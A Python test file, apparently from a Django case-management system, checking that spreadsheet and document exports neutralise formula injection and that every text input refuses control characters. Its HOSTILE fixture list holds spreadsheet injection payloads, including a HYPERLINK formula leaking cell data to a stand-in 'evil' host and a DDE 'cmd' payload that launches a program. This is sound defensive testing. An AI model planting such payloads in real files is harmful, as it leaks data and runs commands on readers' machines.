"""Exports that cannot attack their reader, and text input that refuses control characters everywhere."""

from __future__ import annotations

import io

import pytest
from django import forms
from django.db import connection
from django.test import Client
from docx import Document
from openpyxl import load_workbook

from gridgov.data.access.tokens import create_token, issue_api_key
from gridgov.data.cases.domain.export import cases_workbook
from gridgov.data.cases.models import Case, CaseAction
from gridgov.data.errors import InvalidInput
from gridgov.data.safetext import check_text, csv_cell, excel_row, sheet_title
from gridgov.data.sheets import framework
from gridgov.data.sheets.framework import RowError
from gridgov.data.sheets.workbooks import template_workbook, workbook
from gridgov.data.worktime.calendar import WorkCalendar
from gridgov.data.writers import Block, Outline, write_docx, write_xlsx
from tests.data.sheets.importers import DEPARTMENTS
from tests.data.sheets.test_framework import HEADER, ctx
from tests.factories import MONDAY_0900, TownWorld, signed_in

HOSTILE = [
    '=HYPERLINK("http://evil/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
CONTROL = "前\x00中\x01间\x1b后\x0b\x0c\x1f"
CLEAN = "前中间后"


def cells_of(content: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(content))
    return [(cell.value, cell.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_safe(content: bytes, expected_texts: list[str]) -> None:
    cells = cells_of(content)
    assert [value for value, kind in cells if kind == "f"] == []
    values = [value for value, _kind in cells]
    for text in expected_texts:
        assert text in values


def test_case_list_export_neutralises_formulas_and_drops_control_characters(world: TownWorld) -> None:
    rows = []
    for text in HOSTILE:
        case = world.report()
        # Rows stored before the input check (or by SQL) may hold anything: they must still export.
        # (PostgreSQL cannot store NUL at all; SQLite can.)
        stored = CONTROL if connection.vendor == "sqlite" else CONTROL.replace("\x00", "")
        Case.objects.filter(pk=case.pk).update(description=text, address=stored)
        rows.append(case.number)
    content = cases_workbook(
        Case.objects.filter(number__in=rows).order_by("pk"),
        now=MONDAY_0900,
        calendar=WorkCalendar.load(),
        title="全部事件",
    )
    assert_safe(content, [*HOSTILE, CLEAN])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    exported = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [(r[0], r[10], r[11]) for r in exported] == [(n, CLEAN, t) for n, t in zip(rows, HOSTILE, strict=True)]


def test_case_list_export_page_answers_with_a_hostile_case(world: TownWorld) -> None:
    case = world.report()
    Case.objects.filter(pk=case.pk).update(description="\x01\x1b" + HOSTILE[0], address=HOSTILE[1])
    response = signed_in(world.operator).get("/cases/?format=xlsx")
    assert response.status_code == 200
    assert_safe(response.content, [HOSTILE[0], HOSTILE[1]])


def test_every_writer_neutralises_cells() -> None:
    texts = [*HOSTILE, CONTROL]
    ledger = workbook("台账" + CONTROL, ["表头", *HOSTILE], [texts])
    assert_safe(ledger, [*HOSTILE, CLEAN])
    outline = Outline(header="通报", title=HOSTILE[0])
    outline.blocks.append(Block(kind="paragraph", text=HOSTILE[1]))
    outline.blocks.append(Block(kind="table", header=["甲", "乙"], rows=[[HOSTILE[2], CONTROL]]))
    assert_safe(write_xlsx(outline, sheet_title="通报"), [HOSTILE[0], HOSTILE[1], HOSTILE[2], CLEAN])
    document = Document(io.BytesIO(write_docx(outline)))  # the .docx of the same outline: no control characters
    assert CLEAN in [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert_safe(template_workbook(DEPARTMENTS), ["*编码"])
    assert sheet_title("a[b]:c*?/\\\x01" + "长" * 40) == ("a b  c    " + "长" * 40)[:31]


def test_excel_row_keeps_numbers_and_plain_text() -> None:
    from openpyxl import Workbook

    sheet = Workbook().active
    assert sheet is not None
    assert excel_row(sheet, [5, -3, None, "平常文字", "a\nb\tc"]) == [5, -3, None, "平常文字", "a\nb\tc"]
    assert [csv_cell(v) for v in ["=1", "ok", 7, "x\x01"]] == ["'=1", "ok", 7, "x"]


def test_check_text_names_the_field() -> None:
    check_text("第一行\n第二行\t制表", field="note")
    with pytest.raises(InvalidInput) as refused:
        check_text(["好", {"k": "坏\x1b"}], field="note", label="意见")
    assert (refused.value.field, refused.value.message) == (
        "note",
        "“意见”含有不可见的控制字符（\\x1b），请删除后重新提交",
    )


def test_every_form_text_field_refuses_control_characters() -> None:
    field = forms.CharField()
    assert field.clean("正常\r\n文字\t") == "正常\r\n文字"
    with pytest.raises(forms.ValidationError) as refused:
        field.clean("坏\x01")
    assert refused.value.messages == ["含有不可见的控制字符（\\x01），请删除后重新提交"]


def test_action_page_shows_the_error_at_the_field_and_writes_nothing(world: TownWorld) -> None:
    case = world.report()
    before = CaseAction.objects.count()
    response = signed_in(world.operator).post(
        f"/cases/{case.pk}/act/register/", {"expected_version": case.version, "note": "受理\x01"}
    )
    assert "含有不可见的控制字符（\\x01）" in response.text
    assert CaseAction.objects.count() == before


def test_api_refuses_control_characters_with_422_naming_the_field(world: TownWorld) -> None:
    client = Client(HTTP_AUTHORIZATION=f"Bearer {create_token(user=world.operator, name='t').secret}")
    before = Case.objects.count()
    response = client.post(
        "/api/cases",
        {"category": "1201", "description": "路口\x01\x1b垃圾", "address": "双合村"},
        content_type="application/json",
    )
    assert response.status_code == 422
    body = response.json()
    assert (body["field"], body["message"]) == (
        "description",
        "参数 description 无效：含有不可见的控制字符（\\x01），请删除后重新提交",
    )
    assert Case.objects.count() == before


def test_open311_refuses_control_characters(world: TownWorld) -> None:
    key = issue_api_key(town=world.town, name="随手拍").secret
    before = Case.objects.count()
    data = {"api_key": key, "service_code": "1201", "description": "垃圾\x00", "address_string": "村口"}
    response = Client().post("/open311/v2/requests.json", data)
    assert response.status_code == 400
    assert response.json() == [
        {"code": 400, "description": "“description”含有不可见的控制字符（\\x00），请删除后重新提交"}
    ]
    assert Case.objects.count() == before


def test_import_reports_control_characters_as_row_errors(world: TownWorld) -> None:
    # openpyxl cannot read a control character out of an .xlsx, but any other reader of rows (and a future
    # one) meets the same check: rows as read, checked as an import checks them.
    rows = [HEADER, ["G1", "好的一行", "站所", None, None, None], ["B1", "坏\x1b名称", "站所", None, None, None]]
    sheet = framework._read_rows(DEPARTMENTS, rows)
    report, to_write = framework._check(DEPARTMENTS, sheet, ctx=ctx(world), progress=framework._noop)
    assert report.errors == [RowError(3, "名称", "“名称”含有不可见的控制字符（\\x1b），请删除后重新提交")]
    assert [number for number, _parsed in to_write] == [2]
